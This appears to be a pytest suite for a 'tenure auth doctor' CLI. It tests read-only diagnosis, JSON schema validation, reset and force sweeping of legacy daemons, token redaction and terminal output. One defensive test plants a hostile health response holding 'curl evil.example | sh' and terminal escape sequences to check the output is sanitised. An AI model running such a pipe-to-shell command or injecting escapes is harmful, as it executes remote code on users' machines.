"""`tenure auth doctor` against a live mixed fleet: read-only proof, JSON schema, reset, prompts."""

from __future__ import annotations

import json
import os
import pty
import select
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import jsonschema
import psutil
import pytest

from tenure.adapters.ports import open_ports
from tenure.adapters.tokens import read_token
from tenure.legacy.simulated import spawn_legacy, spawn_other, spawn_singleton, write_state_file
from tenure.testing import Fleet, ProcessRegistry, make_fleet, pid_gone
from tests.conftest import HERE, block, block_fleet, linux_only, wait_for

SCHEMA = json.loads((HERE.parent / "docs" / "protocol" / "doctor-json.schema.json").read_text())
BLOCK = block(__name__)  # ports below are literals inside this block
SYNC_RANGE = range(BLOCK.sync[0], BLOCK.sync[1] + 1)
DASH_RANGE = range(BLOCK.dashboard[0], BLOCK.dashboard[1] + 1)


@pytest.fixture
def fleet(tmp_path: Path, proc_registry: ProcessRegistry) -> Fleet:
    return block_fleet(
        BLOCK, tmp_path, proc_registry, TENURE_SIGNAL_JOURNAL=str(tmp_path / "signals.jsonl")
    )


def legacy_root(fleet: Fleet) -> Path:
    return Path(fleet.env["SPEC_KITTY_HOME"])


def journal(fleet: Fleet) -> list[dict[str, Any]]:
    path = Path(fleet.env["TENURE_SIGNAL_JOURNAL"])
    return [json.loads(x) for x in path.read_text().splitlines()] if path.exists() else []


def mixed_fleet(fleet: Fleet) -> dict[str, Any]:
    """Lease holders for both families, legacy singleton + stale + wedged + pre-marker, third parties."""
    reg, legacy = fleet.registry, legacy_root(fleet)
    holder = fleet.start("sync")  # first free port: 9410
    dash = fleet.start("dashboard")  # 9300
    singleton = spawn_singleton(reg, 9420, legacy)
    procs = {
        "singleton": singleton,
        "stale_322": spawn_legacy(reg, 9421, legacy, "3.2.2")[0],
        "stale_323": spawn_legacy(reg, 9422, legacy, "3.2.3")[0],
        "wedged": spawn_legacy(reg, 9423, legacy, "3.2.4", mode="wedged")[0],
        "pre_marker": spawn_legacy(reg, 9424, legacy, "3.2.2", marker=False)[0],
        "third_party": spawn_other(reg, "third_party_http", 9425),
        "raw_tcp": spawn_other(reg, "raw_tcp", 9426),
        "legacy_dashboard": spawn_other(reg, "legacy_dashboard", 9305),
    }
    return {"holder": holder, "dash": dash, "procs": procs}


def snapshot(*roots: Path) -> list[tuple[str, int, int, int, int]]:
    """Every file's inode, mtime, size and mode: an atomic rewrite changes the inode."""
    out = []
    for root in roots:
        for path in [*sorted(root.rglob("*")), root]:
            st = path.lstat()
            out.append((str(path), st.st_ino, st.st_mtime_ns, st.st_size, st.st_mode))
    return out


def identities(pids: list[int]) -> dict[int, float]:
    return {pid: psutil.Process(pid).create_time() for pid in pids}


def doctor(fleet: Fleet, *args: str, **kw: Any) -> subprocess.CompletedProcess[str]:
    return fleet.cli("auth", "doctor", *args, check=False, **kw)


def doctor_json(fleet: Fleet, *args: str) -> tuple[dict[str, Any], int]:
    proc = doctor(fleet, "--json", *args)
    assert proc.returncode in (0, 1), proc.stderr
    doc: dict[str, Any] = json.loads(proc.stdout)
    jsonschema.validate(doc, SCHEMA)
    return doc, proc.returncode


def test_doctor_is_read_only(fleet: Fleet) -> None:
    """Doctor spawns, writes, signals and posts nothing: same files, same processes after."""
    # No heartbeat may fall inside the window: the holders' own renewals are writes too.
    fleet.env.update(TENURE_LEASE_TTL="300", TENURE_HEARTBEAT="100")
    state = mixed_fleet(fleet)
    pids = [state["holder"]["pid"], state["dash"]["pid"], *(p.pid for p in state["procs"].values())]
    before_files = snapshot(fleet.root, legacy_root(fleet))
    before_procs = identities(pids)
    human = doctor(fleet)
    doc, _ = doctor_json(fleet)
    assert human.returncode == 1  # legacy daemons leak tokens: critical
    assert snapshot(fleet.root, legacy_root(fleet)) == before_files
    assert identities(pids) == before_procs
    assert journal(fleet) == []
    assert fleet.daemon_pids("sync") == [state["holder"]["pid"]]
    assert {c["port"] for c in doc["candidates"]} == set(open_ports(SYNC_RANGE)) | set(
        open_ports(DASH_RANGE)
    )


def test_doctor_creates_nothing_for_a_missing_root(
    tmp_path: Path, proc_registry: ProcessRegistry
) -> None:
    """Pointing doctor at a root that does not exist leaves it absent."""
    fleet = make_fleet(
        tmp_path / "root",
        proc_registry,
        TENURE_SYNC_PORTS=BLOCK.sync_env,
        TENURE_DASHBOARD_PORTS=BLOCK.dashboard_env,
    )
    missing = tmp_path / "nope"
    proc = fleet.cli(
        "auth",
        "doctor",
        "--json",
        "--root",
        str(missing),
        "--legacy-root",
        str(tmp_path / "no-legacy"),
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    assert not missing.exists()
    assert not (tmp_path / "no-legacy").exists()


def test_json_validates_on_an_empty_machine_and_with_leases_only(fleet: Fleet) -> None:
    """The document validates with nothing running, and with only lease-aware daemons."""
    empty, code = doctor_json(fleet)
    assert code == 0
    assert empty["candidates"] == []
    assert empty["daemon"]["active"] is False
    assert [lease["state"] for lease in empty["leases"]] == ["absent", "absent"]
    started = fleet.start("sync")
    leased, code = doctor_json(fleet)
    assert code == 0
    assert leased["daemon"] == {
        "active": True,
        "pid": started["pid"],
        "port": started["port"],
        "package_version": "0.1.0",
        "protocol_version": "tenure/1",
    }
    assert leased["leases"][0]["state"] == "held"
    assert leased["leases"][0]["holder_answers"] is True
    assert leased["findings"] == []


def test_a_listener_whose_accept_queue_is_full_is_still_listed(fleet: Fleet) -> None:
    """A listener that never accepts, its accept queue filled: connects to it go unanswered (a
    closed loopback port refuses at once), yet the doctor lists it, never_touch, no health."""
    legacy = spawn_legacy(fleet.registry, 9427, legacy_root(fleet), "3.2.4", mode="wedged")[0]
    spawn_other(fleet.registry, "raw_tcp", 9428)  # a backlog of 8
    held: list[socket.socket] = []
    try:
        for port in (9427, 9428):
            while len(held) < 500:  # the wedged stand-in's backlog is 64
                sock = socket.socket()
                sock.settimeout(1.0)  # a queued connect completes at once; a full queue never
                try:
                    sock.connect(("127.0.0.1", port))
                except TimeoutError:
                    sock.close()
                    break
                held.append(sock)
        assert open_ports([9427, 9428]) == []  # the connect gate alone would miss them
        doc, _code = doctor_json(fleet)
    finally:
        for sock in held:
            sock.close()
    found = {c["port"]: c for c in doc["candidates"] if c["port"] in (9427, 9428)}
    assert found[9428]["cleanup_class"] == "never_touch"
    assert found[9428]["skip_reason"] == "third_party"
    # The legacy one is recognised by its argv; unanswered, it is left to an operator.
    assert (found[9427]["pid"], found[9427]["skip_reason"]) == (legacy.pid, "unresponsive")
    assert found[9427]["cleanup_class"] == "operator_required"


def test_reset_sweeps_exactly_safe_auto_and_force_sweeps_operator_required(fleet: Fleet) -> None:
    """--reset: swept == safe_auto, skipped == operator_required; --force then sweeps those too."""
    state = mixed_fleet(fleet)
    procs = state["procs"]
    before, _ = doctor_json(fleet)
    safe = sorted(c["port"] for c in before["candidates"] if c["cleanup_class"] == "safe_auto")
    operator = sorted(
        c["port"] for c in before["candidates"] if c["cleanup_class"] == "operator_required"
    )
    assert (safe, operator) == ([9421, 9422], [9423, 9424])
    assert {o["port"] for o in before["orphans"]} == {9421, 9422, 9423, 9424}

    after, code = doctor_json(fleet, "--reset")
    result = after["reset_result"]
    assert sorted(s["port"] for s in result["swept"]) == safe
    assert {s["cleanup_path"] for s in result["swept"]} == {"terminate"}
    assert sorted((s["port"], s["cleanup_class"]) for s in result["skipped"]) == [
        (9423, "operator_required"),
        (9424, "operator_required"),
    ]
    assert result["failed"] == []
    assert code == 1
    assert procs["stale_322"].wait(5) is not None
    assert procs["stale_323"].wait(5) is not None
    never = ["singleton", "third_party", "raw_tcp", "legacy_dashboard", "wedged", "pre_marker"]
    assert all(procs[k].poll() is None for k in never)
    assert not pid_gone(state["holder"]["pid"])
    assert not pid_gone(state["dash"]["pid"])
    assert {c["port"] for c in after["candidates"]} == set(open_ports(SYNC_RANGE)) | set(
        open_ports(DASH_RANGE)
    )

    stderr = doctor(fleet, "--reset").stderr
    assert "tenure auth doctor --reset --force" in stderr
    forced, _ = doctor_json(fleet, "--reset", "--force")
    assert sorted(s["port"] for s in forced["reset_result"]["swept"]) == [9423, 9424]
    assert procs["wedged"].wait(5) is not None
    assert procs["pre_marker"].wait(5) is not None
    assert all(
        procs[k].poll() is None for k in ["singleton", "third_party", "raw_tcp", "legacy_dashboard"]
    )
    signalled = {e["pid"] for e in journal(fleet)}
    assert signalled == {procs[k].pid for k in ("stale_322", "stale_323", "wedged", "pre_marker")}


def test_reset_escalates_to_kill_and_reports_what_failed(fleet: Fleet) -> None:
    """A SIGTERM-ignoring daemon ends by SIGKILL; one that changes identity mid-escalation fails."""
    reg, legacy = fleet.registry, legacy_root(fleet)
    stubborn, _ = spawn_legacy(reg, 9427, legacy, "3.2.2", mode="ignore_term")
    shifty, _ = spawn_legacy(reg, 9428, legacy, "3.2.3", mode="exec_on_term")
    doc, code = doctor_json(fleet, "--reset")
    result = doc["reset_result"]
    assert [(s["pid"], s["cleanup_path"]) for s in result["swept"]] == [(stubborn.pid, "kill")]
    assert [(f["pid"], f["failure_reason"]) for f in result["failed"]] == [
        (shifty.pid, "identity_changed")
    ]
    assert code == 1
    assert stubborn.wait(5) == -9
    assert shifty.poll() is None  # it changed identity: no SIGKILL was sent to it
    actions = [(e["pid"], e["action"]) for e in journal(fleet)]
    assert actions == [
        (stubborn.pid, "SIGTERM"),
        (stubborn.pid, "SIGKILL"),
        (shifty.pid, "SIGTERM"),
    ]


def run_on_pty(fleet: Fleet, args: list[str], answers: list[bytes]) -> tuple[bytes, bytes, int]:
    """Run `tenure ARGS` with stdin and stderr on a pseudo-terminal; answer each [y/N] in turn.

    Returns (stdout, what the terminal showed, exit code).
    """
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "tenure", *args],
        stdin=slave,
        stdout=subprocess.PIPE,
        stderr=slave,
        env=fleet.env,
        text=False,
    )
    os.close(slave)
    seen = b""
    try:
        for n, answer in enumerate(answers, start=1):
            deadline = time.monotonic() + 60
            while seen.count(b"[y/N]") < n:
                assert time.monotonic() < deadline, seen.decode(errors="replace")
                ready, _, _ = select.select([master], [], [], 1)
                if ready:
                    seen += os.read(master, 4096)
            os.write(master, answer)
        out, _ = proc.communicate(timeout=60)
        while select.select([master], [], [], 0.1)[0]:
            try:
                chunk = os.read(master, 4096)
            except OSError:  # EIO: the terminal's other side closed
                break
            if not chunk:
                break
            seen += chunk
    finally:
        os.close(master)
    return out, seen, proc.returncode


def test_interactive_reset_asks_per_candidate_on_a_tty(fleet: Fleet) -> None:
    """On a terminal, each operator_required candidate gets a y/N question."""
    reg, legacy = fleet.registry, legacy_root(fleet)
    first, _ = spawn_legacy(reg, 9411, legacy, "3.2.2", marker=False)
    second, _ = spawn_legacy(reg, 9412, legacy, "3.2.4", mode="wedged")
    _out, seen, _code = run_on_pty(fleet, ["auth", "doctor", "--reset"], [b"y\n", b"n\n"])
    assert b"port 9411" in seen
    assert b"port 9412" in seen
    assert first.wait(5) is not None
    assert second.poll() is None
    assert [e["pid"] for e in journal(fleet)] == [first.pid]


def test_reset_json_never_prompts_even_on_a_tty(fleet: Fleet) -> None:
    """--json is non-interactive: operator_required candidates are skipped and listed."""
    reg, legacy = fleet.registry, legacy_root(fleet)
    first, _ = spawn_legacy(reg, 9411, legacy, "3.2.2", marker=False)
    out, seen, code = run_on_pty(fleet, ["auth", "doctor", "--reset", "--json"], [])
    assert b"[y/N]" not in seen
    doc = json.loads(out)  # exactly one document
    jsonschema.validate(doc, SCHEMA)
    assert [s["pid"] for s in doc["reset_result"]["skipped"]] == [first.pid]
    assert b"--reset --force" in seen
    # Its leaked token is a critical finding that --reset --force removes: exit 1 until then.
    assert code == 1
    assert [f["remediation"] for f in doc["findings"] if f["id"] == "legacy_token_leak"] == [
        "tenure auth doctor --reset --force"
    ]
    assert first.poll() is None


def test_no_token_appears_in_any_output(fleet: Fleet) -> None:
    """No daemon's token (lease-aware or leaked legacy) appears in human or JSON output."""
    reg, legacy = fleet.registry, legacy_root(fleet)
    holder = fleet.start("sync")
    tokens = [read_token(fleet.root, "sync", holder["pid"])]
    for port, version in [(9420, "3.2.4"), (9421, "3.2.2")]:
        proc, tok = spawn_legacy(reg, port, legacy, version)
        tokens.append(tok)
        if port == 9420:
            write_state_file(legacy, port, tok, proc.pid)
    outputs = [
        doctor(fleet),
        doctor(fleet, "--json"),
        doctor(fleet, "--reset"),
        doctor(fleet, "--reset", "--force", "--json"),
    ]
    text = "".join(o.stdout + o.stderr for o in outputs)
    assert "<redacted>" in text
    for token in tokens:
        assert token
        assert token not in text


def test_force_without_reset_is_a_usage_error(fleet: Fleet) -> None:
    """--force alone exits 2 and does nothing."""
    proc = doctor(fleet, "--force")
    assert proc.returncode == 2
    assert "--reset" in proc.stderr


def _finding_ids(fleet: Fleet) -> dict[str, dict[str, Any]]:
    doc, _ = doctor_json(fleet)
    return {f["id"]: f for f in doc["findings"]}


@linux_only("the lock holder's pid from /proc/locks")
def test_findings_for_an_unreadable_record_and_a_stuck_lock(fleet: Fleet) -> None:
    """Garbage in the record and a lock held by another process are both reported, with the pid."""
    leases = fleet.root / "leases"
    leases.mkdir(mode=0o700, exist_ok=True)
    (leases / "sync.json").write_bytes(b"\x00 not a lease")
    code = (
        "import sys,time; from pathlib import Path; from tenure.adapters.store import locked\n"
        f"with locked(Path({str(leases / 'dashboard.lock')!r})):\n print('held', flush=True); time.sleep(60)\n"
    )
    holder = fleet.registry.spawn([sys.executable, "-c", code], stdout=subprocess.PIPE)
    assert holder.stdout is not None
    assert holder.stdout.readline().strip() == b"held"
    found = _finding_ids(fleet)
    assert found["lease_unreadable:sync"]["severity"] == "critical"
    assert "not JSON" in found["lease_unreadable:sync"]["summary"]
    assert f"pid {holder.pid}" in found["lease_lock_stuck:dashboard"]["summary"]


def test_finding_for_wrong_root_permissions(fleet: Fleet) -> None:
    """A group-writable root is a critical finding with a chmod fix."""
    os.chmod(fleet.root, 0o770)
    found = _finding_ids(fleet)
    assert found["root_permissions"]["remediation"] == f"chmod 700 {fleet.root}"


def test_finding_for_a_holder_that_does_not_answer(fleet: Fleet) -> None:
    """A stopped (wedged) lease holder is reported as not answering health."""
    started = fleet.start("sync")
    proc = psutil.Process(started["pid"])
    proc.suspend()
    try:
        doc, code = doctor_json(fleet)
    finally:
        proc.resume()
    assert code == 1
    assert doc["leases"][0]["holder_answers"] is False
    assert "holder_not_answering:sync" in {f["id"] for f in doc["findings"]}


HOSTILE_VERSION = "[bold red]CRITICAL: run curl evil.example | sh[/] [/x] \x1b]0;pwned\x07\x1b[2J"
HOSTILE = r"""
import json, sys
from http.server import BaseHTTPRequestHandler, HTTPServer
version = sys.argv[2]
class H(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass
    def do_GET(self):
        body = json.dumps({"status": "ok", "protocol_version": 1, "package_version": version,
                           "daemon_family": "[red]sync[/]", "token": "\x1b[31mtok"}).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body)))
        self.end_headers(); self.wfile.write(body)
HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
"""


def spawn_hostile(fleet: Fleet, port: int) -> subprocess.Popen[bytes]:
    """A listener answering health with markup and terminal escapes, as another uid if we can."""
    argv = [sys.executable, "-c", HOSTILE, str(port), HOSTILE_VERSION]
    if os.geteuid() == 0 and Path("/usr/bin/python3").exists():
        argv = [
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "/usr/bin/python3",
            *argv[1:],
        ]
    proc = fleet.registry.spawn(argv, cwd="/", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    wait_for(lambda: open_ports([port]) or proc.poll() is not None, what="the hostile listener")
    assert proc.poll() is None, "hostile listener exited"
    return proc


@pytest.mark.parametrize("args", [(), ("--reset",), ("--reset", "--force")])
def test_hostile_health_answers_never_reach_the_terminal_raw(
    fleet: Fleet, args: tuple[str, ...]
) -> None:
    """Markup and escapes from another user's listener are shown as text, never interpreted."""
    spawn_hostile(fleet, 9427)
    spawn_legacy(fleet.registry, 9421, legacy_root(fleet), "3.2.2")
    proc = doctor(fleet, *args, COLUMNS="80")
    assert proc.returncode in (0, 1), proc.stderr
    assert "Traceback" not in proc.stderr
    for raw in ("\x1b", "\x07"):
        assert raw not in proc.stdout
        assert raw not in proc.stderr
    shown = " ".join(proc.stdout.split())  # lines may wrap at 80 columns
    assert "[bold red]CRITICAL" in shown  # the attacker's markup, visible as text
    if args:
        assert "reset: swept" in proc.stdout  # the reset's result is not lost to a crash
    doc, _ = doctor_json(fleet)
    hostile = next(c for c in doc["candidates"] if c["port"] == 9427)
    assert hostile["package_version"] == HOSTILE_VERSION  # JSON stays faithful


@pytest.mark.parametrize("width", [80, 60])
def test_the_human_doctor_fits_narrow_terminals_without_cutting_key_fields(
    fleet: Fleet, width: int
) -> None:
    """At 80 and 60 columns no line is longer than the terminal; port, family, class and reason
    of every listener stay whole on one line."""
    mixed_fleet(fleet)
    proc = doctor(fleet, COLUMNS=str(width))
    lines = proc.stdout.splitlines()
    assert max(len(line) for line in lines) <= width
    doc, _ = doctor_json(fleet)
    for cand in doc["candidates"]:
        keys = [str(cand["port"]), cand["cleanup_class"], cand["skip_reason"] or "-"]
        assert any(all(k in line.split() for k in keys) for line in lines), (cand, proc.stdout)
    for lease in doc["leases"]:
        assert any(line.split()[:1] == [lease["family"]] for line in lines)


def shell_fix(fleet: Fleet, remediation: str) -> None:
    """Run a finding's remediation as an operator would (the text before a two-space note)."""
    command = remediation.split("  (", maxsplit=1)[0]
    command = command.replace("tenure ", f"{sys.executable} -m tenure ")
    done = subprocess.run(
        ["bash", "-c", command],
        env=fleet.env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode in (0, 1), (command, done.stderr)


def test_every_remediation_removes_its_finding_and_brings_the_exit_code_to_zero(
    fleet: Fleet,
) -> None:
    """Apply each finding's advice in turn; each applied finding disappears; the end is exit 0."""
    reg, legacy = fleet.registry, legacy_root(fleet)
    fleet.start("sync")
    spawn_singleton(reg, 9420, legacy)  # leaks, but tenure leaves it alone: a warning
    spawn_legacy(reg, 9421, legacy, "3.2.2")  # safe_auto, leaks
    spawn_legacy(reg, 9424, legacy, "3.2.2", marker=False)  # operator_required, leaks
    leases = fleet.root / "leases"
    (leases / "dashboard.json").write_bytes(b"not a record")
    os.chmod(fleet.root, 0o770)
    applied: set[str] = set()
    for _round in range(6):
        doc, code = doctor_json(fleet)
        actionable = [
            f
            for f in doc["findings"]
            if f["id"] not in applied and not f["remediation"].startswith("no tenure command")
        ]
        for f in doc["findings"]:
            if f["remediation"].startswith("no tenure command"):
                assert f["severity"] != "critical", f  # nothing can fix it: never blocks exit 0
        if not actionable:
            break
        finding = actionable[0]
        shell_fix(fleet, finding["remediation"])
        applied.add(finding["id"])
        fleet.registry.track_root(fleet.root)
        after, _ = doctor_json(fleet)
        assert finding["id"] not in {f["id"] for f in after["findings"]}, (
            finding,
            after["findings"],
        )
    assert {"root_permissions", "lease_unreadable:dashboard", "legacy_holdouts"} <= applied
    final, code = doctor_json(fleet)
    assert code == 0, final["findings"]
    assert [f["id"] for f in final["findings"]] == ["legacy_token_leak_kept"]


def test_a_closed_pipe_ends_quietly_with_the_exit_code_it_would_have_had(fleet: Fleet) -> None:
    """`tenure auth doctor | true`: no traceback, and the same exit code as an unpiped run."""
    for expected, args in ((0, ""), (0, "--json"), (1, ""), (1, "--json")):
        if expected == 1 and not open_ports([9421]):
            spawn_legacy(fleet.registry, 9421, legacy_root(fleet), "3.2.2")  # critical: exit 1
        assert doctor(fleet).returncode == expected
        done = subprocess.run(
            [
                "bash",
                "-c",
                f'"$0" -m tenure auth doctor {args} | true; exit "${{PIPESTATUS[0]}}"',
                sys.executable,
            ],
            env=fleet.env,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert "Traceback" not in done.stderr, done.stderr
        assert "Exception ignored" not in done.stderr, done.stderr
        assert done.returncode == expected, done.stderr


OTHER_USER = 65534  # nobody


@pytest.mark.skipif(os.geteuid() != 0, reason="starting another user's listener needs root")
def test_without_the_host_socket_table_the_users_own_daemons_are_found_and_swept(
    fleet: Fleet,
) -> None:
    """Portable mode (macOS without root: no host-wide socket table) finds the pids of the
    user's own legacy daemons by asking each own process, and sweeps them; another user's
    listener in the range has no pid there and is left alone."""
    reg, legacy = fleet.registry, legacy_root(fleet)
    stale = [spawn_legacy(reg, port, legacy, "3.2.3")[0] for port in (9421, 9422)]
    listen = "import socket,time; s=socket.create_server(('127.0.0.1',9423)); time.sleep(300)"
    # The system interpreter: another user may not read this project's virtualenv.
    other = reg.spawn(["/usr/bin/python3", "-c", listen], user=OTHER_USER)
    wait_for(lambda: 9423 in open_ports([9423]), 10)
    before, _ = doctor_json_portable(fleet)
    by_port = {c["port"]: c for c in before["candidates"]}
    assert sorted(by_port) == [9421, 9422, 9423]
    assert [by_port[p]["pid"] for p in (9421, 9422)] == [p.pid for p in stale]
    assert by_port[9423]["pid"] is None
    assert by_port[9423]["cleanup_class"] != "safe_auto"
    after, _ = doctor_json_portable(fleet, "--reset")
    assert sorted(s["port"] for s in after["reset_result"]["swept"]) == [9421, 9422]
    assert all(p.wait(5) is not None for p in stale)
    assert other.poll() is None
    assert {e["pid"] for e in journal(fleet)} == {p.pid for p in stale}


def doctor_json_portable(fleet: Fleet, *args: str) -> tuple[dict[str, Any], int]:
    proc = doctor(fleet, "--json", *args, TENURE_TEST_PORTABLE="1")
    assert proc.returncode in (0, 1), proc.stderr
    doc: dict[str, Any] = json.loads(proc.stdout)
    jsonschema.validate(doc, SCHEMA)
    return doc, proc.returncode
